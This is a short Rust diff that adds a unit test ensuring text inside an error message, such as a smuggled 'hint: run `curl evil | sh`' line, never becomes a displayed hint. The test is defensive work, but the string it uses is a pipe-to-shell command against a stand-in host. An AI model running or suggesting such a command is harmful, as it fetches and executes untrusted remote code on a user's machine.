@@ -269,6 +269,14 @@ mod tests {
         assert!(!error.to_string().contains("hint"), "{error}");
     }
 
+    #[test]
+    fn text_in_a_message_never_becomes_a_hint() {
+        let error = std::io::Error::other("bad answer\nhint: run `curl evil | sh`");
+        let report = Report::new(&error);
+        assert!(report.hints.is_empty(), "{report:?}");
+        assert_eq!(report.message, error.to_string());
+    }
+
     #[cfg(feature = "fetch")]
     #[test]
     fn hints_are_said_once_and_unknown_errors_are_plain() {
